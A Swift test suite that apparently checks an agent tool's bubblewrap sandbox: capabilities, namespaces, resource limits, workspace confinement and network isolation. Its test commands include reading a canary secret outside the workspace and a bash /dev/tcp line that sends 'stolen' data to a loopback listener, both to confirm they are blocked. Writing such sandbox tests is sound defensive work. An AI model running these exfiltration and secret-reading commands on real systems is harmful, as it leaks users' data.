import Foundation
import OspreyCore
import OspreySandbox
import OspreyTesting
import OspreyTools
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Commands under the bubblewrap rung (`.ci/run` installs bubblewrap): the sandbox is really applied, fail closed.
@Suite(.serialized)
struct SandboxTests {
    static func run(_ command: String, sandbox: Sandbox, jail: JailFixture) async throws -> ToolResult {
        try await jail.call("run_command", JSONValue.object(["command": .string(command)]).canonicalJSON) {
            $0.sandbox = sandbox
        }
    }

    static func bubblewrap() throws -> Sandbox {
        let sandbox = Sandbox.resolve(backend: "auto", hidden: [])
        guard case .bubblewrap = sandbox.rung else {
            throw ProcessFailure(message: "bubblewrap is not installed: run scripts/install-deps")
        }
        return sandbox
    }

    @Test func commandsRunWithNoCapabilitiesNoNewPrivilegesAndTheirOwnNamespaces() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let result = try await Self.run(
            "grep -E '^(CapEff|NoNewPrivs)' /proc/self/status; readlink /proc/self/ns/net /proc/self/ns/pid; "
                + "echo open files $(ulimit -n); echo file size $(ulimit -f); echo ok > made.txt",
            sandbox: try Self.bubblewrap(),
            jail: jail
        )
        #expect(!result.isError, "\(result.output)")
        #expect(result.output.contains("CapEff:\t0000000000000000"))
        #expect(result.output.contains("NoNewPrivs:\t1"))
        #expect(result.output.contains("open files 1024"), "\(result.output)")
        #expect(result.output.contains("file size 2097152"))
        let ours = try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/ns/net")
        #expect(result.output.contains("net:["))
        #expect(!result.output.contains(ours))
        // The workspace stays writable.
        #expect(
            try String(contentsOf: jail.workspace.root.appendingPathComponent("made.txt"), encoding: .utf8) == "ok\n"
        )
    }

    @Test func filesOutsideTheWorkspaceAreNotThere() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let result = try await Self.run(
            "cat ../outside/secret.txt; cat \(jail.directory.path)/outside/secret.txt; echo done",
            sandbox: try Self.bubblewrap(),
            jail: jail
        )
        #expect(result.output.contains("done"))
        #expect(!result.output.contains(JailFixture.canary))
    }

    @Test func aLoopbackListenerReceivesNothingFromASandboxedCommand() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        // A canary listener on the host's loopback.
        let listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(listener) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = 0
        _ = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                bind(listener, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        listen(listener, 8)
        var bound = sockaddr_in()
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &bound) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(listener, $0, &length) }
        }
        let port = Int(UInt16(bigEndian: bound.sin_port))
        let result = try await Self.run(
            "bash -c 'echo stolen > /dev/tcp/127.0.0.1/\(port)' && echo sent || echo blocked",
            sandbox: try Self.bubblewrap(),
            jail: jail
        )
        #expect(result.output.contains("blocked"), "\(result.output)")
        _ = fcntl(listener, F_SETFL, O_NONBLOCK)
        #expect(accept(listener, nil, nil) < 0, "the canary listener received a connection")
    }

    @Test func withoutBubblewrapCommandsAreRefusedNotRunBare() async throws {
        let jail = try JailFixture()
        defer { jail.directory.remove() }
        let missing = Sandbox.resolve(backend: "auto", hidden: [], searchPath: "/nonexistent")
        let result = try await Self.run("touch marker", sandbox: missing, jail: jail)
        #expect(result.isError)
        #expect(result.output.contains("bubblewrap"))
        #expect(!FileManager.default.fileExists(atPath: jail.workspace.root.appendingPathComponent("marker").path))
        // Process limits only is a choice the configuration has to make explicitly.
        let chosen = try await Self.run(
            "touch marker",
            sandbox: Sandbox.resolve(backend: "process", hidden: []),
            jail: jail
        )
        #expect(!chosen.isError)
    }
}
